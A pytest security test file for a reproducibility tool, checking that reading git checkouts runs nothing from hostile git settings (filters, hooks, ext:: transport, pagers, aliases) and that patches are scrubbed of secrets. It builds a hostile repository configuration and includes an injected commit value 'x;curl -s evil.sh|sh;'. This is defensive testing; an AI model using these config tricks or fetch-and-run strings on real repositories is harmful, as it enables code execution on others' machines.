"""Reading sources runs nothing from them: no filter, hook, monitor, pager or transport; git's own answers are met."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from rlk_repro.base import proc
from rlk_repro.base.secrets import Scrubber
from rlk_repro.base.trees import hash_tree
from rlk_repro.images import own_patch
from rlk_repro.images.own_patch import with_own_patch
from rlk_repro.probes.checkout import probe_checkout
from rlk_repro.replay.recorded import describe_own_patch
from rlk_repro.rundir.manifest import Manifest, Unknown
from rlk_repro.rundir.paths import RunDir
from tests.security.hostile import pack_stranger
from tests.support.probe_examples import commit_files, git, write_program

# Every setting of git that names a program, by section.
PROGRAMS = {
    'filter "evil"': ("clean", "smudge", "process"),
    'diff "evil"': ("command", "textconv"),
    "diff": ("external",),
    "core": ("fsmonitor", "pager", "editor", "sshCommand", "askPass", "gitProxy", "alternateRefsCommand"),
    "gpg": ("program",),
    "uploadpack": ("packObjectsHook",),
    "pager": ("ls-files", "ls-tree", "rev-parse"),
}
ALIASES = {"credential": ("helper",), "alias": ("ls-files", "ls-tree", "rev-parse")}
# Git would fetch missing objects by any transport.
OTHERS = """
[filter "evil"]
  required = true
[log]
  showSignature = true
[core]
  repositoryFormatVersion = 1
  hooksPath = {folder}/hooks
[extensions]
  partialClone = origin
[remote "origin"]
  promisor = true
  url = ext::{program}
[protocol]
  allow = always
[protocol "ext"]
  allow = always
"""


def make_checkout(folder: Path) -> Path:
    """Make a clean checkout with a package of vime's name."""
    commit_files(folder, {"vime/__init__.py": "x = 1\n", ".gitignore": "*.so\n"})
    return folder


def make_hostile(folder: Path, program: Path) -> Path:
    """Make a checkout that uses every program setting of git, and a changed file for the filters."""
    make_checkout(folder)
    (folder / ".gitattributes").write_text("* filter=evil diff=evil\n")
    text = OTHERS.format(folder=folder, program=program)
    for names, value in ((PROGRAMS, f"{program}"), (ALIASES, f"!{program}")):
        for section, keys in names.items():
            text += f"[{section}]\n" + "".join(f'  {key} = "{value}"\n' for key in keys)
    (folder / ".git" / "included").write_text(text)
    (folder / "hooks").mkdir()
    for name in ("post-index-change", "reference-transaction", "post-checkout", "fsmonitor-watchman", "pre-commit"):
        (folder / "hooks" / name).symlink_to(program)
    (folder / "vime" / "__init__.py").write_text("x = 2\n")
    with (folder / ".git" / "config").open("a") as stream:
        stream.write(f'[include]\n\tpath = "{folder}/.git/included"\n')
    return folder


def test_a_dry_run_of_a_bundle_runs_nothing_of_its_author(call, tmp_path: Path) -> None:
    program, mark = write_program(tmp_path)
    hostile = make_hostile(tmp_path / "theirs", program)
    proc.run(["git", "status"], cwd=hostile)
    assert mark.exists(), "these settings run the program in an ordinary git"
    mark.unlink()
    bundle = pack_stranger(tmp_path / "id", profile={"cluster": "local", "env": {"PYTHONPATH": str(hostile)}})
    code, out, err = call("replay", str(bundle), "--dry-run")
    assert (code, mark.exists(), "PYTHONPATH" in out + err) == (0, False, False), err


def test_a_hostile_checkout_is_described_and_runs_nothing(tmp_path: Path) -> None:
    program, mark = write_program(tmp_path)
    hostile = make_hostile(tmp_path / "theirs", program)
    head = (hostile / ".git" / (hostile / ".git/HEAD").read_text().split()[1]).read_text().strip()
    facts = probe_checkout(hostile / "vime")
    assert (facts["commit"], facts["is_dirty"], mark.exists()) == (head, True, False)
    (hostile / ".git" / "index").unlink()  # git does not fetch the missing object either
    for path in (hostile / ".git" / "objects").glob("[0-9a-f][0-9a-f]"):
        path.rename(hostile / ".git" / f"gone-{path.name}")
    assert isinstance(probe_checkout(hostile)["commit"], Unknown)
    assert not mark.exists()


def test_a_checkout_of_another_user_is_described(tmp_path: Path) -> None:
    folder = make_checkout(tmp_path / "theirs")
    head = git(folder, "rev-parse", "HEAD")
    if os.geteuid() != 0:
        pytest.skip("only root may give files away")
    for path in (folder, *folder.rglob("*")):
        os.chown(path, 65534, 65534)
    assert probe_checkout(folder)["commit"] == head


@pytest.mark.parametrize(
    "head",
    ["ref: ../../secret", "ref: refs/../../../secret", "x" * 10_000, "ref: refs/heads/a", "ref: refs/heads/itself"],
)
def test_a_head_that_leads_elsewhere_is_no_commit(tmp_path: Path, head: str) -> None:
    folder = make_checkout(tmp_path / "theirs")
    for path in (tmp_path / "secret", folder / "secret"):
        path.write_text("a" * 40)
    (folder / ".git/refs/heads/itself").write_text("ref: refs/heads/itself\n")
    (folder / ".git/HEAD").write_text(head)
    assert isinstance(probe_checkout(folder)["commit"], Unknown)


def as_pipe(folder: Path) -> None:
    (folder / "vime" / "__init__.py").unlink()
    os.mkfifo(folder / "vime" / "__init__.py")


@pytest.mark.parametrize("change", [as_pipe, lambda folder: make_checkout(folder / "nested")])
def test_what_git_would_not_read_makes_a_checkout_dirty(tmp_path: Path, change: Callable[[Path], object]) -> None:
    folder = make_checkout(tmp_path / "theirs")
    change(folder)
    assert probe_checkout(folder)["is_dirty"] is True


def test_packed_references_worktrees_and_submodules_are_followed(tmp_path: Path) -> None:
    inner = make_checkout(tmp_path / "inner")
    outer = make_checkout(tmp_path / "outer")
    git(outer, "-c", "protocol.file.allow=always", "submodule", "--quiet", "add", str(inner), "vime/sub")
    git(outer, "commit", "-q", "-m", "with a submodule")
    head, tree = git(outer, "rev-parse", "HEAD", "HEAD^{tree}").split()
    clean = {"commit": head, "is_dirty": False, "diff_sha256": "clean", "tree": tree}
    assert probe_checkout(outer) == clean
    git(outer, "pack-refs", "--all")
    assert probe_checkout(outer / "vime") == clean
    git(outer, "worktree", "add", "-q", "--detach", str(tmp_path / "other"))
    assert probe_checkout(tmp_path / "other") == clean  # its submodule was never fetched
    facts = probe_checkout(outer / "vime" / "sub")
    assert facts["commit"] == git(inner, "rev-parse", "HEAD")
    (outer / "vime" / "sub" / "vime" / "__init__.py").write_text("changed\n")
    assert probe_checkout(outer)["is_dirty"] is True


def test_the_tree_is_that_of_the_files(tmp_path: Path) -> None:
    folder = make_checkout(tmp_path / "a")
    for name, text in (("new ünï\n", ""), ("built.so", "ignored"), (".git/info/exclude", "notes\n"), ("notes", "mine")):
        (folder / name).write_text(text)
    facts = probe_checkout(folder)
    assert (facts["is_dirty"], facts["tree"]) == (True, hash_tree(folder, (".git", "*.so", "notes")))


# The changes of rlk-repro's own checkout go into the bundle, and replay says how to apply them.


COMMIT = "1a2b3c4d" * 5
PATCH = b"diff --git a/rlk_repro/x.py b/rlk_repro/x.py\n+a = 1\n"
TOKEN = "hf_" + "Zz9" * 9


def record(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, patch: bytes | Unknown, untracked: list[str]
) -> tuple[dict[str, Any], list[str], RunDir]:
    """Return the facts of rlk-repro, what replay says of them, and the run directory."""
    manifest = Manifest(node="a", sections={"code": {"rlk_repro": {"commit": COMMIT, "is_dirty": True}}})
    made = patch if isinstance(patch, Unknown) else (patch, untracked)
    monkeypatch.setattr(own_patch, "make_patch", lambda *_: made)
    run_dir = RunDir(tmp_path)
    manifest = with_own_patch(manifest, run_dir.own_patch, Scrubber())
    own: Any = manifest.sections["code"]["rlk_repro"]
    return own, describe_own_patch(Path("my b.tgz"), [manifest]), run_dir


@pytest.mark.parametrize(
    ("patch", "untracked", "fact", "told"),
    [
        (PATCH, [], "whole", []),
        (PATCH + f'+token = "{TOKEN}"\n'.encode(), [], "without secrets", ["  secrets were removed from this patch"]),
        (PATCH, ["k8s/x"], "whole, which lacks files outside the commit: k8s/x",
         ["  which lacks files outside the commit: k8s/x"]),
    ],
)  # fmt: skip
def test_changes_are_kept_and_replay_names_their_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, patch: bytes, untracked: list[str], fact: str, told: list[str]
) -> None:
    own, (first, *rest), run_dir = record(tmp_path, monkeypatch, patch, untracked)
    assert own["patch"] == fact
    assert run_dir.is_packed(run_dir.own_patch.name)
    assert run_dir.own_patch.read_bytes().startswith(PATCH)
    assert TOKEN.encode() not in run_dir.own_patch.read_bytes()
    assert first == (
        f"rlk-repro had uncommitted changes to commit {COMMIT}; rlk-repro.patch in my b.tgz holds them: "
        "code of the bundle's author, to be read before it is applied"
    )
    assert [line[: len(words)] for line, words in zip(rest, told, strict=True)] == told


@pytest.mark.parametrize(
    ("patch", "reason"),
    [
        (b"x" * (own_patch.MAX_PATCH_BYTES + 1), "the patch is larger than 1 MiB"),
        (PATCH + b"\nGIT binary patch\n", "the changes include binary files, which may hide secrets"),
        (b"", "no patch, because no changed file belongs to the package"),
        (Unknown("git is not on PATH"), "git is not on PATH"),
    ],
)
def test_what_is_not_kept_has_a_reason(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, patch: bytes | Unknown, reason: str
) -> None:
    own, told, run_dir = record(tmp_path, monkeypatch, patch, [])
    assert own["patch"] == Unknown(reason)
    assert not run_dir.own_patch.exists()
    assert told == [f"the bundle lacks rlk-repro's uncommitted changes to commit {COMMIT} ({reason})"]


def test_a_clean_checkout_has_no_patch_and_no_commit_is_part_of_a_command(tmp_path: Path) -> None:
    clean = Manifest(node="a", sections={"code": {"rlk_repro": {"commit": COMMIT, "is_dirty": False}}})
    assert with_own_patch(clean, tmp_path / "patch", Scrubber()) is clean
    assert describe_own_patch(Path("b.tgz"), [clean]) == []
    evil = {"commit": "x;curl -s evil.sh|sh;", "is_dirty": True, "patch": "whole"}
    (line,) = describe_own_patch(Path("b.tgz"), [Manifest(node="a", sections={"code": {"rlk_repro": evil}})])
    assert line.endswith("x;curl -s evil.sh|sh;): nothing can restore its code")
